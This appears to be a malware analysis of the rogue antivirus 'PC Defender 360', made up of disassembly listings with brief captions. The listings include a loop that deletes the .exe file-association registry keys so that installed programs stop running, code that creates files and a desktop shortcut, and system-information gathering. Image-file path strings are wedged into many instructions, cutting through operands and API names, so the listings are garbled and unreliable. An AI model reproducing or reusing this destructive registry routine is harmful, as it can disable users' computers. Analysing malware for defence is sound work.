009D16BE    C1E008             shl eax,0x8
009D16C1    8945 FC             mov dword ptr ss:[ebp-0x4],eax
009D16C4    E8 07BF0000         call 009DD5D0
009D16C9    83A6 34020000 00    and dword ptr ds:[esi+0x234],0x0
009D16D0    8986 38020000       mov dword ptr ds:[esi+0x238],eax
009D16D6    8B45 FC             mov eax,dword ptr ss:[ebp-0x4]
009D16D9    E8 F2BE0000         call 009DD5D0
009D16DE    83A6 3C020000 00    and dword ptr ds:[esi+0x23C],0x0
009D16E5    83BE 38020000 00    cmp dword ptr ds:[esi+0x238],0x0
009D16EC    8986 40020000       mov dword ptr ds:[esi+0x240],eax009D16F2    0F84 97000000       je 009D178F
009D16F8    85C0                test eax,eax
009D16FA    0F84 8F000000       je 009D178F
009D1700    4F                  dec edi
009D1701    85DB                test ebx,ebx
009D1703    7E 78               jle short 009D177D
009D1705    68 00010000         push 0x100
009D170A    8D85 F8FEFFFF       lea eax,dword ptr ss:[ebp-0x108]
009D1710    6A 00               push 0x0
009D1712    50                  push eax
009D1713    E8 F8BE0000         call 009DD610
009D1718    0FB617              movzx edx,byte ptr ds:[edi]
009D171B    2BFA                sub edi,edx
009D171D    83C4 0C             add esp,0xC
009D1720    8BCF                mov ecx,edi
009D1722    8D85 F8FEFFFF       lea eax,dword ptr ss:[ebp-0x108]009D1728    E8 13BF0000         call 009DD640
009D172D    4F                  dec edi
009D172E    80BD F8FEFFFF 40    cmp byte ptr ss:[ebp-0x108],0x40
009D1735    75 20               jnz short 009D1757
009D1737    8B86 3C020000       mov eax,dword ptr ds:[esi+0x23C]
009D173D    8BC8                mov ecx,eax
009D173F    C1E1 08             shl ecx,0x8
009D1742    038E 40020000       add ecx,dword ptr ds:[esi+0x240]
009D1748    40                  inc eax
009D1749    8986 3C020000       mov dword ptr ds:[esi+0x23C],eax
009D174F    8D95 F9FEFFFF       lea edx,dword ptr ss:[ebp-0x107]
009D1755    EB 1E               jmp short 009D1775
009D1757    8B86 34020000       mov eax,dword ptrds:[esi+0x234]
009D175D    8BC8                mov ecx,eax
009D175F    C1E1 08             shl ecx,0x8
009D1762    038E 38020000       add ecx,dword ptr ds:[esi+0x238]
009D1768    40                  inc eax
009D1769    8986 34020000       mov dword ptr ds:[esi+0x234],eax
009D176F    8D95 F8FEFFFF       lea edx,dword ptr ss:[ebp-0x108]
009D1775    E8 E6BE0000         call 009DD660
009D177A    4B                  dec ebx
009D177B  ^ 75 88               jnz short 009D1705
009D177D    83EF 03             sub edi,0x3
009D1780    66:8B07             mov ax,word ptr ds:[edi]
009D1783    66:8946 2A          mov word ptr ds:[esi+0x2A],ax
009D1787    66:8B47 02          mov ax,word ptr ds:[edi+0x2]
009D178B    66:8946 2C          mov word ptr ds:[esi+0x2C],ax009D178F    5F                  pop edi
009D1790    5B                  pop ebx
009D1791    C9                  leave
009D1792    C3                  retn


Next, PC Defender 360 deletes .exe extension file association from the registry that will result in program installed on your computer Not Operational.

009DE11B    55                  push ebp
009DE11C    8BEC                mov ebp,esp
009DE11E    83EC 1C             sub esp,0x1C
009DE121    56                  push esi
009DE122    C745 E4 A8F59D00    mov dword ptr ss:[ebp-0x1C],0x9DF5A8     ; Software\Classes\.exe\shell\runas\command
009DE129    C745 E8 00F69D00    mov dword ptr ss:[ebp-0x18],0x9DF600     ; Software\Classes\.exe\shell\runas
009DE130    C745 EC 48F69D00    mov dword ptr ss:[ebp-0x14],0x9DF648     ; Software\Classes\.exe\shell\open\command
009DE137    C745 F0 A0F69D00    mov dword ptr ss:[ebp-0x10],0x9DF6A0     ; Software\Classes\.exe\shell\open
009DE13E    C745 F4 E4F69D00    mov dword ptr ss:[ebp-0xC],0x9DF6E4      ; Software\Classes\.exe\shell
009DE145    C745 F8 20F79D00    mov dword ptr ss:[ebp-0x8],0x9DF720      ; Software\Classes\.exe\DefaultIcon
009DE14C    C745 FC 64F79D00    mov dword ptr ss:[ebp-0x4],0x9DF764      ; Software\Classes\.exe
009DE15333F6                xor esi,esi
009DE155    FF74B5 E4           push dword ptr ss:[ebp+esi*4-0x1C]
009DE159    68 01000080         push 0x80000001
009DE15E    FF15 10F09D00       call dword ptr ds:[0x9DF010]             ; advapi32.RegDeleteKeyW
009DE164    46                  inc esi
009DE165    83FE 07             cmp esi,0x7
009DE168  ^ 72 EB               jb short 009DE155
009DE16A    5E                  pop esi
009DE16B    C9                  leave
009DE16C    C3                  retn


Then, PC Defender 360 will get %CommonAppdata% directory and create ifdstore file; get %CommonDesktop directory and create PC Defender 360.lnk file.009DDD4C    55                  push ebp
009DDD4D    8BEC                mov ebp,esp
009DDD4F    B800200000         mov eax,0x2000
009DDD54    E8 67040000         call 009DE1C0
009DDD59    8B4D 08             mov ecx,dword ptr ss:[ebp+0x8]
009DDD5C    56                  push esi
009DDD5D    33D2                xor edx,edx
009DDD5F    E8 7CF9FFFF         call 009DD6E0
009DDD64    8BF0                mov esi,eax
009DDD66    81FE FF0F0000       cmp esi,0xFFF
009DDD6C    0F83 82000000       jnb 009DDDF4
009DDD72    68 00200000         push 0x2000
009DDD77    52                  push edx
009DDD78    8D85 00E0FFFF       lea eax,dword ptr ss:[ebp-0x2000]
009DDD7E    50                  push eax
009DDD7F    E8 8CF8FFFF         call 009DD610
009DDD84    8B4D 08             mov ecx,dword ptr ss:[ebp+0x8]
009DDD87    83C4 0C             add esp,0xC
009DDD8A    8D95 00E0FFFF       lea edx,dword ptr ss:[ebp-0x2000]
009DDD90    E8 EBF8FFFF         call 009DD680
009DDD95    8D8475 00E0FFFF     lea eax,dword ptr ss:[ebp+esi*2-0x2000]
009DDD9C    66:8338 5C          cmp word ptr ds:[eax],0x5C
009DDDA0    74 06               je short 009DDDA8009DDDA2    6A 5C               push 0x5C
009DDDA4    59                  pop ecx
009DDDA5    66:8908             mov word ptr ds:[eax],cx
009DDDA8    8D85 00E0FFFF       lea eax,dword ptr ss:[ebp-0x2000]
009DDDAE    EB 28               jmp short 009DDDD8
009DDDB0    33C0                xor eax,eax
009DDDB2    8D8D 00E0FFFF       lea ecx,dword ptr ss:[ebp-0x2000]
009DDDB8    66:8906             mov word ptr ds:[esi],ax
009DDDBB    E8 20F9FFFF         call 009DD6E0
009DDDC0    85C0                test eax,eax
009DDDC2    74 0B               je short 009DDDCF
009DDDC4    6A 00               push 0x0
009DDDC6    8BC1                mov eax,ecx
009DDDC8    50                  push eax
009DDDC9    FF15 E0F09D00       call dword ptrds:[0x9DF0E0]             ; kernel32.CreateDirectoryW
009DDDCF    6A 5C               push 0x5C
009DDDD1    58                  pop eax
009DDDD2    66:8906             mov word ptr ds:[esi],ax
009DDDD5    8D46 02             lea eax,dword ptr ds:[esi+0x2]
009DDDD8    E8 A3F9FFFF         call 009DD780
009DDDDD    8BF0                mov esi,eax
009DDDDF    85F6                test esi,esi009DDDE1  ^ 75 CD               jnz short 009DDDB0
009DDDE3    FF75 08             push dword ptr ss:[ebp+0x8]
009DDDE6    FF15 E4F09D00       call dword ptr ds:[0x9DF0E4]             ; kernel32.GetFileAttributesW
009DDDEC    33D2                xor edx,edx
009DDDEE    83F8 FF             cmp eax,-0x1
009DDDF1    0F95C2              setne dl
009DDDF4    8BC2                mov eax,edx
009DDDF6    5E                  pop esi
009DDDF7    C9                  leave
009DDDF8    C3                  retn
009DDDF9    57                  push edi
009DDDFA    6A 01               push 0x1
009DDDFC    6A 23               push 0x23
009DDDFE    56                  push esi
009DDDFF    6A 00               push 0x0
009DDE01    FF15 F0F09D00       call dword ptr ds:[0x9DF0F0]             ;shell32.SHGetSpecialFolderPathW
009DDE07    BF 44F59D00         mov edi,0x9DF544                         ; \
009DDE0C    8BCF                mov ecx,edi
009DDE0E    8BC6                mov eax,esi
009DDE10    E8 DBF8FFFF         call 009DD6F0009DDE15    B9 58F39D00         mov ecx,0x9DF358                         ; ifdstore
009DDE1A    E8 D1F8FFFF         call 009DD6F0
009DDE1F    8BCF                mov ecx,edi
009DDE21    E8 CAF8FFFF         call 009DD6F0
009DDE26    56                  push esi
009DDE27    E8 20FFFFFF         call 009DDD4C
009DDE2C    59                  pop ecx
009DDE2D    5F                  pop edi
009DDE2E    C3                  retn


Following, PC Defender 360 starts to get the system information about the compromised computer.

009DDF1F    55                  push ebp
009DDF20    8D6C24 88           lea ebp,dword ptr ss:[esp-0x78]
009DDF24    81EC 40010000       sub esp,0x140
009DDF2A    833D 00009E00 FF    cmp dword ptr ds:[0x9E0000],-0x1
009DDF31    0F85 BC000000       jnz 009DDFF3
009DDF37    8325 00009E00 00    and dword ptr ds:[0x9E0000],0x0
009DDF3E    8D85 38FFFFFF       lea eax,dword ptr ss:[ebp-0xC8]
009DDF44    50                  push eax
009DDF45    C785 38FFFFFF 1C010>mov dword ptr ss:[ebp-0xC8],0x11C
009DDF4F    FF15 DCF09D00       call dword ptr ds:[0x9DF0DC]             ; kernel32.GetVersionExW
009DDF55    68 60F59D00         push 0x9DF560                            ; GetNativeSystemInfo
009DDF5A    68 74F59D00         push 0x9DF574                            ; kernel32.dll
009DDF5F    FF15 D8F09D00call dword ptr ds:[0x9DF0D8]             ; kernel32.GetModuleHandleW
009DDF65    50                  push eax
009DDF66    FF15 24F09D00       call dword ptr ds:[0x9DF024]             ; kernel32.GetProcAddress
009DDF6C    85C0                test eax,eax
009DDF6E    75 05               jnz short 009DDF75
009DDF70    A1 D4F09D00         mov eax,dword ptr ds:[0x9DF0D4]
009DDF75    8D4D 54             lea ecx,dword ptr ss:[ebp+0x54]
009DDF78    51                  push ecx
009DDF79    FFD0                call eax
009DDF7B    8B85 3CFFFFFF       mov eax,dword ptr ss:[ebp-0xC4]
009DDF81    33C9                xor ecx,ecx
009DDF83    66:394D 54          cmp word ptr ss:[ebp+0x54],cx
009DDF87    0F95C1              setne cl
009DDF8A    83E8 05             sub eax,0x5
009DDF8D    890D 28009E00       mov dword ptr ds:[0x9E0028],ecx009DDF93    74 35               je short 009DDFCA
009DDF95    48                  dec eax
009DDF96    75 61               jnz short 009DDFF9
009DDF98    8B85 40FFFFFF       mov eax,dword ptr ss:[ebp-0xC0]
009DDF9E    83E8 00             sub eax,0x0
009DDFA1    74 10               je short 009DDFB3
009DDFA3    48                  dec eax
009DDFA4    75 53               jnz short 009DDFF9
009DDFA6    807D 52 01          cmp byte ptr ss:[ebp+0x52],0x1
009DDFAA    0F95C0              setne al
009DDFAD    8D4400 03           lea eax,dword ptr ds:[eax+eax+0x3]
009DDFB1    EB 10               jmp short 009DDFC3
009DDFB3    33C0                xor eax,eax
009DDFB5    807D 52 01          cmp byte ptr ss:[ebp+0x52],0x1
009DDFB9    0F95C0              setne al
009DDFBC    48                  dec eax
009DDFBD    83E0 FD             and eax,-0x3
009DDFC0    83C0 05             add eax,0x5
009DDFC3    A3 00009E00         mov dword ptr ds:[0x9E0000],eax
009DDFC8    EB 2F               jmp short 009DDFF9
009DDFCA    33C0                xor eax,eax
009DDFCC    40                  inc eax
009DDFCD    3985 40FFFFFF       cmp dword ptr ss:[ebp-0xC0],eax
009DDFD3  ^ 76 EE               jbe short 009DDFC3
009DDFD5    83BD 40FFFFFF 02    cmp dword ptr ss:[ebp-0xC0],0x2
009DDFDC    75 1B               jnz short 009DDFF9
009DDFDE    3845 52             cmp byte ptr ss:[ebp+0x52],al
009DDFE1    75 04               jnz short 009DDFE7
009DDFE3    85C9                test ecx,ecx
009DDFE5  ^ 75 DC               jnz short 009DDFC3
009DDFE7    C705 00009E00 04000>mov dword ptr ds:[0x9E0000],0x4009DDFF1    EB 06               jmp short 009DDFF9
009DDFF3    8B0D 28009E00       mov ecx,dword ptr ds:[0x9E0028]
009DDFF9    85FF                test edi,edi
009DDFFB    74 02               je short 009DDFFF
009DDFFD    890F                mov dword ptr ds:[edi],ecx
009DDFFF    A1 00009E00         mov eax,dword ptr ds:[0x9E0000]
009DE004    83C5 78             add ebp,0x78
009DE007    C9                  leave
009DE008    C3                  retn


Once again, PC Defender 360 visits the malicious website to get all needed parameter.


009D6705   push 0x9DF384
009D7507   push 0x9DF3BC009D875F   push 0x9DF3F0


